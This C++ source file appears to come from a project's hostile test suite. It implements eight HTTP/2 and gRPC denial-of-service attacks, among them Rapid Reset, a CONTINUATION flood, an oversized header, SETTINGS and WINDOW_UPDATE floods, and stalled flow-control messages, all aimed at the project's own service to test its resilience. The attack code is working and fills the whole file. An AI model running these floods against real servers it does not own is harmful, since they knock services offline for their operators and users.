#include "tests/hostile/attacks.h"

#include <algorithm>
#include <memory>

#include "absl/time/clock.h"

namespace gemmd::hostile {
namespace {

constexpr char kExecute[] = "/gemmd.v1.ComputeService/Execute";
constexpr char kWatch[] = "/grpc.health.v1.Health/Watch";
constexpr size_t kFrameBytes = 16384;
constexpr absl::Duration kPatience = absl::Seconds(2);
// Between two connections: loopback would otherwise run out of ports.
constexpr absl::Duration kPause = absl::Milliseconds(5);

// Runs `on_connection` on one connection after another.
template <typename Work>
AttackCounts Repeat(const PeerOptions& options, absl::Time until, Work on_connection) {
  AttackCounts counts;
  while (absl::Now() < until && counts.cut < options.most_cuts) {
    RawConnection peer(options);
    if (peer.Handshake(until - absl::Now())) {
      ++counts.connections;
      on_connection(peer, counts);
      counts.cut += !peer.open();
    }
    absl::SleepFor(kPause);
  }
  return counts;
}

// Frames of a header block that never ends: `fields` in the first, then `more` over and over.
void EndlessBlock(RawConnection& peer, std::string_view fields, std::string_view more,
                  absl::Time until, AttackCounts& counts) {
  peer.Send(Frame(FrameType::kHeaders, kNoFlags, 1, fields), kPatience);
  const std::string frame = Frame(FrameType::kContinuation, kNoFlags, 1, more);
  while (absl::Now() < until && peer.Send(frame, kPatience)) ++counts.sent;
}

// A message of 4 MiB on stream `stream`, as much of it as the windows take now. What is left.
int64_t SendSome(RawConnection& peer, uint32_t stream, int64_t left) {
  const int64_t bytes =
      std::min({left, peer.connection_window(), peer.stream_window(stream), int64_t{kFrameBytes}});
  if (bytes <= 0) return left;
  if (!peer.Send(
          Frame(FrameType::kData, kNoFlags, stream, std::string(static_cast<size_t>(bytes), 'x')),
          kPatience)) {
    return left;
  }
  peer.Sent(stream, bytes);
  return left - bytes;
}

// One connection of UnfinishedMessages.
class Unfinished {
 public:
  static constexpr int kStreams = 60;
  static constexpr int64_t kMessageBytes = 4 << 20;

  Unfinished(const PeerOptions& options, absl::Time until) : peer_(options) {
    if (!peer_.Handshake(std::min(until - absl::Now(), absl::Seconds(10)))) return;
    for (int i = 0; i < kStreams; ++i) {
      // The prefix says 4 MiB less what the prefix takes; the last byte is never sent.
      std::string prefix(1, '\0');
      const auto length = static_cast<uint32_t>(kMessageBytes);
      for (int shift = 24; shift >= 0; shift -= 8) prefix.push_back(char(length >> shift));
      const uint32_t stream = 2 * i + 1;
      peer_.Send(BeginCall(stream, kExecute) + Frame(FrameType::kData, kNoFlags, stream, prefix));
      peer_.Sent(stream, 5);
      left_.push_back(kMessageBytes - 1);
    }
  }

  bool open() const { return peer_.open(); }
  // True when something went.
  bool Step() {
    bool moved = false;
    for (size_t i = 0; i < left_.size() && peer_.open(); ++i) {
      const int64_t before = left_[i];
      left_[i] = SendSome(peer_, static_cast<uint32_t>(2 * i + 1), before);
      moved = moved || left_[i] < before;
    }
    peer_.Read();
    return moved;
  }

 private:
  RawConnection peer_;
  std::vector<int64_t> left_;  // of each stream's message; none before the handshake
};

}  // namespace

AttackCounts ContinuationFlood(const PeerOptions& options, absl::Time until) {
  // gRPC 1.51 holds each frame to its limit of 8 KiB, not all of them together.
  std::string fields;
  while (fields.size() < 2048) fields += HeaderField("x-flood", "0123456789abcdef");
  return Repeat(options, until, [&](RawConnection& peer, AttackCounts& counts) {
    EndlessBlock(peer, RequestHeaders(kExecute), fields, until, counts);
  });
}

AttackCounts HugeHeader(const PeerOptions& options, absl::Time until) {
  constexpr size_t kValueBytes = 26 << 20;
  const std::string value = HeaderField("x-huge", std::string(kValueBytes, 'x'));
  return Repeat(options, until, [&](RawConnection& peer, AttackCounts& counts) {
    std::string_view left = value;
    peer.Send(Frame(FrameType::kHeaders, kNoFlags, 1, RequestHeaders(kExecute)), kPatience);
    while (!left.empty() && absl::Now() < until) {
      const size_t bytes = std::min(left.size(), kFrameBytes);
      const uint8_t flags = bytes == left.size() ? kEndHeaders : kNoFlags;
      if (!peer.Send(Frame(FrameType::kContinuation, flags, 1, left.substr(0, bytes)), kPatience)) {
        return;
      }
      ++counts.sent;
      left.remove_prefix(bytes);
    }
    peer.AwaitEnd(std::min(until - absl::Now(), absl::Seconds(20)));
  });
}

AttackCounts UnfinishedMessages(const PeerOptions& options, absl::Time until) {
  constexpr size_t kConnections = 8;
  AttackCounts counts;
  std::vector<std::unique_ptr<Unfinished>> peers;
  while (absl::Now() < until && counts.cut < options.most_cuts) {
    counts.cut += std::erase_if(peers, [](const auto& peer) { return !peer->open(); });
    if (peers.size() < kConnections) {
      peers.push_back(std::make_unique<Unfinished>(options, until));
      ++counts.connections;
      counts.sent += Unfinished::kStreams;
    }
    bool moved = false;
    for (const auto& peer : peers) moved = peer->Step() || moved;
    if (!moved) absl::SleepFor(absl::Milliseconds(20));
  }
  return counts;
}

AttackCounts WatchFlood(const PeerOptions& options, absl::Time until) {
  constexpr size_t kConnections = 20;
  constexpr int kWatches = 1000;
  AttackCounts counts;
  std::vector<std::unique_ptr<RawConnection>> peers;
  while (absl::Now() < until && counts.cut < options.most_cuts) {
    counts.cut += std::erase_if(peers, [](const auto& peer) { return !peer->Read(); });
    if (peers.size() >= kConnections) {
      absl::SleepFor(absl::Milliseconds(20));
      continue;
    }
    auto peer = std::make_unique<RawConnection>(options);
    if (!peer->Handshake(until - absl::Now())) {
      absl::SleepFor(kPause);
      continue;
    }
    ++counts.connections;
    for (int i = 0; i < kWatches && peer->open(); ++i) {
      const uint32_t stream = 2 * i + 1;
      if (peer->Send(
              BeginCall(stream, kWatch) + Frame(FrameType::kData, kEndStream, stream, Message("")),
              kPatience)) {
        ++counts.sent;
      }
    }
    peers.push_back(std::move(peer));
  }
  return counts;
}

AttackCounts RapidReset(const PeerOptions& options, absl::Time until) {
  constexpr int kBatch = 50;
  return Repeat(options, until, [&](RawConnection& peer, AttackCounts& counts) {
    for (uint32_t stream = 1; absl::Now() < until;) {
      std::string frames;
      for (int i = 0; i < kBatch; ++i, stream += 2) {
        frames += BeginCall(stream, kExecute) +
                  Frame(FrameType::kData, kEndStream, stream, Message("")) + ResetStream(stream);
      }
      if (!peer.Send(frames, kPatience)) return;
      counts.sent += kBatch;
    }
  });
}

AttackCounts ControlFlood(const PeerOptions& options, absl::Time until) {
  const std::string frames = Frame(FrameType::kSettings, kNoFlags, 0, "");
  return Repeat(options, until, [&](RawConnection& peer, AttackCounts& counts) {
    while (absl::Now() < until && peer.Send(frames, kPatience)) ++counts.sent;
  });
}

AttackCounts WindowUpdates(const PeerOptions& options, absl::Time until) {
  constexpr int kBatch = 500;
  std::string frames;
  for (int i = 0; i < kBatch; ++i) frames += WindowUpdate(0, 1);
  return Repeat(options, until, [&](RawConnection& peer, AttackCounts& counts) {
    while (absl::Now() < until && peer.Send(frames, kPatience)) counts.sent += kBatch;
  });
}

AttackCounts ThinData(const PeerOptions& options, absl::Time until) {
  constexpr int kStreams = 50, kRounds = 10;
  std::string begin, frames;
  for (uint32_t i = 0; i < kStreams; ++i) {
    // The first bytes say that a message of 4 MiB comes.
    begin += BeginCall(2 * i + 1, kExecute) +
             Frame(FrameType::kData, kNoFlags, 2 * i + 1, std::string("\0\0\x40\0\0", 5));
    frames += Frame(FrameType::kData, kNoFlags, 2 * i + 1, "x");
  }
  for (int round = 1; round < kRounds; ++round) frames += frames.substr(0, kStreams * 10);
  return Repeat(options, until, [&](RawConnection& peer, AttackCounts& counts) {
    peer.Send(begin, kPatience);
    while (absl::Now() < until && peer.Send(frames, kPatience)) counts.sent += kStreams * kRounds;
  });
}

const std::vector<NamedAttack>& AllAttacks() {
  static const auto* const attacks = new std::vector<NamedAttack>{
      {"continuation_flood", ContinuationFlood},
      {"huge_header", HugeHeader},
      {"unfinished_messages", UnfinishedMessages},
      {"watch_flood", WatchFlood},
      {"rapid_reset", RapidReset},
      {"control_flood", ControlFlood},
      {"window_updates", WindowUpdates},
      {"thin_data", ThinData},
  };
  return *attacks;
}

}  // namespace gemmd::hostile
